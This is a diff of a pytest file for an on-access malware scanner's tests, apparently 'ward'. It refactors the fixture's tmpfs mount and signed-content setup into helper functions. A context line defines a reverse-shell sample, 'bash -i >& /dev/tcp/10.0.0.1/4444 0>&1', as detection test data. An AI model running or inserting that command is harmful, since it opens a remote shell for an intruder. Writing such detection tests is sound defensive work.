@@ -13,8 +13,9 @@ import time
 
 import pytest
 
-from agentlib import DEFAULT_SRC, EICAR_RULE, Agent, Keys, crafted, read_journal, wait_events
+from agentlib import EICAR_RULE, Agent, crafted, default_content, wait_events
 from conftest import EICAR
+from userlib import own_tmpfs
 
 REVSHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
 
@@ -23,16 +24,12 @@ REVSHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
 def box(ward, tmp_path):
     if os.geteuid() != 0:
         pytest.fail("the on-access tests run as root (make check runs them so)", pytrace=False)
-    mnt = tmp_path / "mnt"
-    mnt.mkdir()
-    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64m,mode=0755", "wardtest", str(mnt)],
-                   check=True)
-    assert os.path.ismount(mnt), "refusing to go on: %s is not the test's own mount" % mnt
-    keys = Keys(ward, str(tmp_path / "keys"))
-    rel = keys.make("release")
-    v1 = str(tmp_path / "v1.wbundle")
-    assert ward.run("content", "build", DEFAULT_SRC, "-o", v1).returncode == 0
-    assert ward.run("content", "sign", v1, "--key", rel[0]).returncode == 0
+    with own_tmpfs(tmp_path / "mnt", "64m") as mnt:
+        yield from _box(ward, tmp_path, mnt)
+
+
+def _box(ward, tmp_path, mnt):
+    rel, v1 = default_content(ward, tmp_path)
     agents = []
 
     class Box:
@@ -56,7 +53,6 @@ def box(ward, tmp_path):
     yield b
     for a in agents:
         a.stop()
-    subprocess.run(["umount", str(mnt)], check=True)
 
 
 def write_exec(path, data):
